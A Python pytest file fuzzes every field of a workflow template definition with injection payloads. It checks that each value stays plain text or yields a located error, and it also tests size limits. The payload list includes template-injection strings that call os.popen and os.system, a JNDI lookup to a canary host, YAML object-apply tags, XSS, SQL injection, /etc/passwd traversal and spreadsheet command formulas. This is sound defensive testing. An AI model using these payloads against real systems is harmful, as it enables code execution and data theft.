"""P-23: whatever stands in whatever field of a template is a text that stays one, or a mistake with its place."""

import json
import re
from collections.abc import Iterator
from copy import deepcopy
from itertools import cycle
from pathlib import Path
from time import process_time
from typing import Any

import pytest

from workflows.definition import Definition
from workflows.exchange.mistakes import DefinitionErrors
from workflows.exchange.yaml_text import read, write
from workflows.verification import publishable, verify

CANARY = Path("/tmp/cocreate-canary")  # noqa: S108 - nothing is ever written there; a payload that ran would
CODE = [
    "{{ 7 * 7 }}", "{% for x in range(10**9) %}{% endfor %}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{%- set x = lipsum.__globals__ -%}", "{# hidden #}",
    "${7*7}", "$(id)", "`id`", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://canary.invalid/a}", "%(name)s", "%s%s%s%n",
    "{0.__class__.__init__.__globals__}", "{name!r:>{width}}", "{a[b].c}", "%d %x", "f'{1+1}'",
    "__import__('os').system('touch /tmp/cocreate-canary')", "os.system", "builtins.eval", "eval('1+1')",
    "exec(open('/tmp/cocreate-canary', 'w'))", "lambda: 0", "(lambda f: f(f))(lambda f: f(f))", "__class__",
    "__reduce__", "().__class__.__bases__[0]", "import os; os.remove('/')", "def f(): pass", "9**9**9**9",
    "(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$" + "a" * 60 + "!", "(?:a|a)*b" + "a" * 40, "\\1\\2(?R)",
    "!!python/object/apply:os.system [id]", "!!python/name:os.system", "!!binary aGk=", "!!set {a}", "!x", "&a b", "*a",
    "<<: *a", "? b", "| a", "> a", "%YAML 1.2", "--- a", "...", "[a, b", "{a: b", "a: b", "- a", "# a", "@a", "'", '"',
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "</title><svg/onload=1>",
    "&lt;b&gt;", "[a](javascript:1)", "![x](http://canary.invalid/)", "'; DROP TABLE template; --", "1 OR 1=1",
    "' UNION SELECT password FROM person --", "../../../etc/passwd", "/etc/passwd", "file:///etc/passwd",
    "http://canary.invalid/", "\\\\canary.invalid\\a", "C:\\con", "CON", "=cmd|'/c calc'!A1", "+1", "-1", "@SUM(A1)",
    "#import \"a\"", "#read(\"/etc/passwd\")", "#eval(\"1\")", "\\input{/etc/passwd}", "\\write18{id}",
    "a\r\nBcc: b@canary.invalid", "a\nb", "a\tb", "a\u0000b", "a\u2028b", "\u202eevil\u202c", "\u200b", "\ufeff",
    "a\u0301\u0301\u0301", "\U0001f4a9", "\u0130", "\uff1cscript\uff1e", "\u2215etc\u2215passwd", "null", "~", "true",
    "false", "yes", "no", "on", "off", "NaN", ".inf", "-.inf", "Infinity", "0x7f", "0o17", "0b1", "1_000", "1e999",
    "-0", "1e-999", "12:30:45", "2027-02-30", "2027-01-01T00:00:00Z", "9" * 31, "9" * 5_000, "1" + "0" * 400,
    "0." + "0" * 400 + "1",
    "x" * 41, "x" * 201, "x" * 30_000, " ", "", "a" * 10 + " " * 10, "stage", "task:", "task:none", "field:a.b.c",
    "seat:none", "project:secret", "a.b.c", "a.b.c.d.e", "a.b.c@d", "..", "a..b", ".", "constructor", "__proto__",
    "prototype.polluted", "self", "cls", "model_config", "model_fields", "model_validate", "_keys", "format", "items",
    "$name", "${name}", "$$", "$__class__", "$maker.__class__", "{{ url_for.__globals__ }}", "{{ namespace() }}",
    "%n%n%n", "@(7*7)", "*{7*7}", "%99999999d", "((a*)*)*b" * 50,
    "host", "nobody", "all", "own", "facilitator", "contract", "agreed", "tasks", "champion", "EUR", "eur", "%", "kg",
]
OTHER: list[Any] = [None, True, False, 0, -1, 1, 10**29, -(10**29), 1.5, 1e300, [], {}, [[]], [{}], [None], ["a"] * 300,
                    {"a": "b"}, {"": ""}, {"en": "a"}, {"eval": "1"}, {"task": "a", "or": 1}, {"all": []},
                    {"any": [{"any": [{"any": [{"any": ["tasks"]}]}]}]}, {"__class__": "a"}, {"$ref": "#"},
                    {"k" * 50: 1}, {str(n): n for n in range(70)}, [0] * 2_500]
PAYLOADS: list[Any] = [*CODE, *OTHER]
MANUAL = (Path(__file__).parents[2] / "docs" / "template-language.md").read_text(encoding="utf-8")
(EXAMPLE,) = re.findall(r"```yaml\n(.*?)```", MANUAL, re.DOTALL)
DATA: dict[str, Any] = read(EXAMPLE).model_dump(mode="json", by_alias=True)  # with every default: every field there is


def places(value: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every value of a tree, also those that hold others."""
    if place:
        yield place
    for key, inner in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from places(inner, (*place, key))


def put(place: tuple[Any, ...], payload: Any) -> dict[str, Any]:
    data = deepcopy(DATA)
    inner: Any = data
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = payload
    return data


def at(definition: Definition, place: tuple[Any, ...]) -> Any:
    inner: Any = definition.model_dump(mode="json", by_alias=True)
    for key in place:
        inner = inner[key]
    return inner


class TestEveryField:
    def test_there_are_enough(self):
        assert len(PAYLOADS) >= 200
        assert len({json.dumps(payload) for payload in PAYLOADS}) == len(PAYLOADS)

    @pytest.mark.parametrize("turn", [0, *(pytest.param(turn, marks=pytest.mark.long) for turn in range(1, 6))])
    def test_keeps_a_text_or_says_where_the_mistake_is(self, turn):
        everywhere, waiting = [*places(DATA)], cycle(PAYLOADS[turn * 35:] + PAYLOADS[:turn * 35])
        assert len(everywhere) > len(PAYLOADS)  # each payload has its turn
        for place in everywhere:
            payload = next(waiting)
            text = json.dumps(put(place, payload), ensure_ascii=False).replace("\u2028", "\\u2028")  # JSON is YAML
            began = process_time()
            try:
                definition = read(text)
            except DefinitionErrors as found:
                assert all(error.line and error.message and len(str(error)) < 2_000 for error in found.errors), place
                assert place[0] in {error.path.partition(".")[0] for error in found.errors}, (place, payload)
            else:
                if isinstance(payload, str) and isinstance(kept := at(definition, place), str):
                    assert kept == payload.strip(), place
                assert read(write(definition)).sha256 == definition.sha256, (place, payload)
                assert all(finding.message for finding in verify(definition))
            assert process_time() - began < 2, (place, payload)
        assert not CANARY.exists()

    def test_no_text_is_ever_a_name(self):
        for payload in CODE[::4]:
            for place in (("stages", "baseline", "tasks", "returns", "of"), ("transitions", "to_terms", "to"),
                          ("transitions", "to_terms", "when", "all", 1, "gate")):
                data = put(place, [payload] if place[-1] == "of" else payload)
                try:
                    definition = read(json.dumps(data))
                except DefinitionErrors:
                    continue
                assert not publishable(verify(definition)), (place, payload)


class TestLimits:
    @pytest.mark.parametrize(("stages", "said"), [(201, "has more than 200 entries"), (2_000, "has more than 200")])
    def test_of_stages(self, stages, said):
        data = put(("stages",), {f"s{n}": {"name": "S", "purpose": "p", "target": 1} for n in range(stages)})
        with pytest.raises(DefinitionErrors, match=said):
            read(json.dumps(data))

    def test_of_a_file(self):
        data = put(("stages",), {f"s{n}": {"name": "S", "purpose": "p", "target": 1} for n in range(100_000)})
        with pytest.raises(DefinitionErrors, match="larger than 1 MB"):
            read(json.dumps(data))

    def test_a_place_deep_inside_has_its_line(self):
        with pytest.raises(DefinitionErrors) as caught:
            read(EXAMPLE.replace("min: 0, max: 100", "min: zero, max: 100"))
        (error,) = caught.value.errors
        assert (error.path, error.message) == ("stages.baseline.tasks.returns.fields.broken.min",
                                               "'zero' must be a number")
        assert EXAMPLE.splitlines()[(error.line or 0) - 1].strip().startswith("broken:")
